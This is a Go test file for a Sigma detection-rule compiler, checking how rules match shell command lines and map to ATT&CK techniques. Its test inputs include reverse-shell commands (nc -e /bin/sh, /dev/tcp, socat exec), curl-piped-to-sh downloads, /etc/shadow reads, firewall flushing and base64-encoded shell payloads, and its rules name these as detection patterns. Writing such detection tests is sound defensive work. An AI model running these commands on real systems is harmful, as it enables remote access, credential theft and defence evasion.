package sigma_test

import (
	"errors"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"

	"github.com/decnet/ttp/rules"
	"github.com/decnet/ttp/rules/sigma"
	"github.com/decnet/ttp/shell"
)

func compile(t *testing.T, src string) (*sigma.Detection, error) {
	t.Helper()
	var doc yaml.Node
	if err := yaml.Unmarshal([]byte(src), &doc); err != nil {
		t.Fatalf("%v\n%s", err, src)
	}
	return sigma.CompileDetection("test.yml", doc.Content[0])
}

// anyCommand reports whether d holds for some command of the line.
func anyCommand(d *sigma.Detection, text string) bool {
	l := shell.Parse(text)
	for i := range l.Commands {
		if d.Match(l, i) {
			return true
		}
	}
	return false
}

// TestModifiers checks each field modifier and condition form on commands.
func TestModifiers(t *testing.T) {
	cases := []struct {
		name, det string
		fire, not []string
	}{
		{"default is whole-value, case-insensitive equality",
			"sel: {CommandLine: 'WHOAMI'}\ncondition: sel",
			[]string{"whoami", "WhoAmI"}, []string{"whoami -a", "sudo -u x whoami x"}},
		{"wildcards",
			"sel: {CommandLine: 'cat */shad?w'}\ncondition: sel",
			[]string{"cat /etc/shadow", "cat /etc/SHADOW"}, []string{"cat /etc/shadow.bak", "less /etc/shadow"}},
		{"escaped wildcard is literal",
			`sel: {CommandLine|endswith: '\*'}` + "\ncondition: sel",
			[]string{`ls '*'`}, []string{"ls x"}},
		{"contains, startswith, endswith",
			"a: {CommandLine|contains: '/dev/tcp/'}\nb: {CommandLine|startswith: 'nc '}\nc: {Image|endswith: '/socat'}\ncondition: 1 of them",
			[]string{"timeout 3 cat /dev/tcp/1.2.3.4/80", "nc -e /bin/sh 1.2.3.4 4444", "/tmp/socat tcp:1.2.3.4:1 exec:sh"},
			// a redirection is not an argument: a process's command line does not show it
			[]string{"ncat x", "socat2 x", "cat < /dev/tcp/1.2.3.4/80"}},
		{"all: every value",
			"sel: {CommandLine|contains|all: [' -e ', '/bin/sh']}\ncondition: sel",
			[]string{"nc -e /bin/sh 1.2.3.4 1"}, []string{"nc -e /bin/bash 1.2.3.4 1", "nc /bin/sh"}},
		{"cased",
			"sel: {CommandLine|contains|cased: ' -O '}\ncondition: sel",
			[]string{"wget -O x http://a"}, []string{"wget -o x http://a"}},
		{"re is case-sensitive, re|i is not",
			"a: {CommandLine|re: 'chmod\\s+[0-7]*7[0-7]{2}\\s'}\nb: {CommandLine|re|i: '^IPTABLES -F'}\ncondition: a or b",
			[]string{"chmod 777 /tmp/x", "iptables -F"}, []string{"CHMOD 777 /tmp/x", "chmod 644 x"}},
		{"windash",
			"sel: {CommandLine|windash|contains: ' -enc '}\ncondition: sel",
			[]string{"pwsh -enc AAAA", "pwsh /enc AAAA", "pwsh \u2013enc AAAA"}, []string{"pwsh enc AAAA"}},
		{"base64offset",
			"sel: {CommandLine|base64offset|contains: '/bin/sh'}\ncondition: sel",
			// "x /bin/sh", "xx /bin/sh", "xxx /bin/sh" in base64: each offset
			[]string{"echo eCAvYmluL3No | base64 -d", "echo eHggL2Jpbi9zaA== | base64 -d", "echo eHh4IC9iaW4vc2g= | base64 -d"},
			[]string{"echo aGVsbG8= | base64 -d"}},
		{"base64",
			"sel: {CommandLine|base64|contains: 'id;'}\ncondition: sel",
			[]string{"echo aWQ7 | base64 -d | sh"}, []string{"echo AWQ7 | base64 -d"}},
		{"list = OR, map = AND",
			"sel:\n  Image|endswith: [/curl, /wget]\n  CommandLine|contains: http\ncondition: sel",
			[]string{"curl http://a", "wget http://a"}, []string{"curl ftp://a", "lynx http://a"}},
		{"list of maps = OR",
			"sel:\n  - {Image|endswith: /curl}\n  - {Image|endswith: /wget}\ncondition: sel",
			[]string{"curl x", "wget x"}, []string{"fetch x"}},
		{"not, and, parentheses",
			"a: {Image|endswith: /nc}\nb: {CommandLine|contains: ' -e '}\nc: {CommandLine|contains: ' -l'}\ncondition: a and (b or c) and not (b and c)",
			[]string{"nc -e /bin/sh 1.2.3.4 1", "nc -lvp 4444"}, []string{"nc 1.2.3.4 1", "nc -e /bin/sh -lp 1"}},
		{"all of sel*, them excludes _",
			"sel_a: {Image|endswith: /nc}\nsel_b: {CommandLine|contains: ' -e '}\n_x: {CommandLine|contains: nothing}\ncondition: all of sel_* and not 1 of _*",
			[]string{"nc -e sh x"}, []string{"nc -e nothing", "nc x"}},
		{"N of",
			"s1: {CommandLine|contains: aa}\ns2: {CommandLine|contains: bb}\ns3: {CommandLine|contains: cc}\ncondition: 2 of s*",
			[]string{"echo aa bb", "echo bb cc"}, []string{"echo aa", "echo cc"}},
		{"ParentImage: the shell of a payload",
			"sel: {ParentImage|endswith: /bash, Image|endswith: /id}\ncondition: sel",
			[]string{"bash -c id", "bash -c 'echo x; id'"}, []string{"id", "sh -c id"}},
		{"ParentImage: the writer of a pipe",
			"sel: {ParentImage|endswith: /curl, Image|endswith: /sh}\ncondition: sel",
			[]string{"curl -s http://a/x | sh"}, []string{"wget -O- http://a/x | sh", "curl x; sh y"}},
		{"ParentCommandLine: the command a substitution sits in",
			"sel: {ParentCommandLine|contains: 'echo', Image|endswith: /uname}\ncondition: sel",
			[]string{`echo "$(uname -a)"`}, []string{"uname -a"}},
		{"null and exists",
			"a: {ParentImage: null, Image|endswith: /id}\nb: {ParentImage|exists: true, Image|endswith: /whoami}\ncondition: a or b",
			[]string{"id", "sh -c whoami"}, []string{"sh -c id", "whoami"}},
		{"a program is its exact name, other values fold case",
			"sel: {Image|endswith: /wget, CommandLine|contains: ' -O /TMP/'}\ncondition: sel",
			[]string{"wget x -O /tmp/x", "/usr/bin/wget x -o /Tmp/x"}, []string{"WGET x -O /tmp/x", "/usr/bin/Wget x -O /tmp/x"}},
		{"a wrapper is a process",
			"sel: {Image|endswith: /sudo, CommandLine|contains: ' -u '}\ncondition: sel",
			[]string{"sudo -u bob id"}, []string{"su -c id bob", "id -u"}},
		{"a shell keyword or builtin is not a process",
			"sel: {CommandLine|contains: 'exec '}\ncondition: sel",
			[]string{"sh -c 'exec id'"}, []string{"exec id", "if true; then exec id; fi"}},
		{"a condition list is OR",
			"a: {Image|endswith: /id}\nb: {Image|endswith: /w}\ncondition: [a, b]",
			[]string{"id", "w"}, []string{"who"}},
	}
	for _, c := range cases {
		d, err := compile(t, c.det)
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		for _, s := range c.fire {
			if !anyCommand(d, s) {
				t.Errorf("%s: must match %q", c.name, s)
			}
		}
		for _, s := range c.not {
			if anyCommand(d, s) {
				t.Errorf("%s: must not match %q", c.name, s)
			}
		}
	}
}

// TestPrograms: the names the engine indexes a detection by are necessary, never guessed.
func TestPrograms(t *testing.T) {
	cases := map[string]string{
		"sel: {Image|endswith: [/curl, /bin/Wget]}\ncondition: sel":                   "Wget curl",
		"sel: {Image|endswith: /curl}\nf: {CommandLine: x}\ncondition: sel and not f": "curl",
		"a: {Image|endswith: /curl}\nb: {CommandLine|contains: x}\ncondition: a or b": "",
		"sel: {Image|contains: /python}\ncondition: sel":                              "",
		"sel: {Image|endswith: curl}\ncondition: sel":                                 "",
		"a: {Image: /usr/bin/id}\nb: {Image|endswith: /w}\ncondition: 1 of them":      "id w",
	}
	for src, want := range cases {
		d, err := compile(t, src)
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Join(d.Programs(), " "); got != want {
			t.Errorf("%q: programs %q, want %q", src, got, want)
		}
	}
}

// TestErrors: what cannot be converted says so, with file, line, field and a reason.
func TestErrors(t *testing.T) {
	head := "title: t\nid: 11111111-2222-3333-4444-555555555555\nlogsource: {product: linux, category: process_creation}\ntags: [attack.t1059.004]\n"
	cases := []struct {
		src, reason, field string
		line               int
		err                error
	}{
		{head + "detection:\n  sel:\n    User: root\n  condition: sel\n", "field User", "detection.sel.User", 7, sigma.ErrUnsupported},
		{head + "detection:\n  sel:\n    CurrentDirectory|contains: /tmp\n  condition: sel\n", "field CurrentDirectory", "detection.sel.CurrentDirectory|contains", 7, sigma.ErrUnsupported},
		{head + "detection:\n  sel:\n    CommandLine|cidr: 10.0.0.0/8\n  condition: sel\n", "modifier cidr", "detection.sel.CommandLine|cidr", 7, sigma.ErrUnsupported},
		{head + "detection:\n  sel:\n    - foo\n  condition: sel\n", "keywords", "detection.sel[0]", 7, sigma.ErrUnsupported},
		{head + "detection:\n  sel: {Image: x}\n  condition: sel | count() > 3\n", "aggregation", "detection.condition", 7, sigma.ErrUnsupported},
		{head + "detection:\n  sel: {Image: x}\n  condition: sel and nope\n", "bad condition", "detection.condition", 7, sigma.ErrInvalid},
		{head + "detection:\n  sel: {CommandLine|re: '(?<=x)y'}\n  condition: sel\n", "re not RE2", "detection.sel.CommandLine|re", 6, sigma.ErrUnsupported},
		{strings.Replace(head, "process_creation", "file_event", 1) + "detection:\n  sel: {Image: x}\n  condition: sel\n", "logsource", "logsource", 3, sigma.ErrUnsupported},
		{strings.Replace(head, "attack.t1059.004", "attack.execution", 1) + "detection:\n  sel: {Image: x}\n  condition: sel\n", "no technique in tags", "tags", 4, sigma.ErrUnsupported},
		{head + "detection:\n  sel: {Image: x}\n", "no condition", "detection.condition", 6, sigma.ErrInvalid},
		{head + "level: severe\ndetection:\n  sel: {Image: x}\n  condition: sel\n", "bad level", "level", 5, sigma.ErrInvalid},
		{"title: [x\n", "YAML syntax", "", 1, sigma.ErrInvalid},
	}
	for _, c := range cases {
		_, err := sigma.Decode("r.yml", []byte(c.src))
		var se *sigma.Error
		if !errors.As(err, &se) {
			t.Errorf("%s: got %v, want a *sigma.Error", c.reason, err)
			continue
		}
		if se.Reason != c.reason || se.Field != c.field || se.Line != c.line || se.File != "r.yml" || !errors.Is(err, c.err) {
			t.Errorf("got reason %q field %q line %d (%v), want %q %q %d (%v)", se.Reason, se.Field, se.Line, se.Err, c.reason, c.field, c.line, c.err)
		}
	}
}

// TestTags: techniques and tactics from tags, v19 ids mapped, level to confidence and band.
func TestTags(t *testing.T) {
	src := `title: t
id: 11111111-2222-3333-4444-555555555555
level: high
logsource: {product: linux, category: process_creation}
tags: [attack.stealth, attack.defense-impairment, attack.t1685.004, attack.t1059, attack.t1059.004, attack.t1222.002, attack.g0032]
detection:
  sel: {Image|endswith: /auditctl}
  condition: sel
`
	r, err := sigma.Decode("r.yml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	want := []sigma.Emit{
		{TechniqueID: "T1562", SubTechniqueID: "T1562.012", Tactic: "defense-evasion"},
		{TechniqueID: "T1059", SubTechniqueID: "T1059.004", Tactic: "execution"},
		{TechniqueID: "T1222", SubTechniqueID: "T1222.002", Tactic: "defense-evasion"},
	}
	if len(r.Emits) != len(want) {
		t.Fatalf("emits %+v, want %+v", r.Emits, want)
	}
	for i := range want {
		if r.Emits[i] != want[i] {
			t.Errorf("emit %d: %+v, want %+v", i, r.Emits[i], want[i])
		}
	}
	out, err := sigma.Convert(r, "R5999")
	if err != nil {
		t.Fatal(err)
	}
	rule, err := rules.Parse("R5999.yaml", out)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if rule.Precision != "H" || rule.Emits[0].Confidence != sigma.Levels["high"] || !rule.IsStructure() {
		t.Errorf("precision %s confidence %v", rule.Precision, rule.Emits[0].Confidence)
	}
}
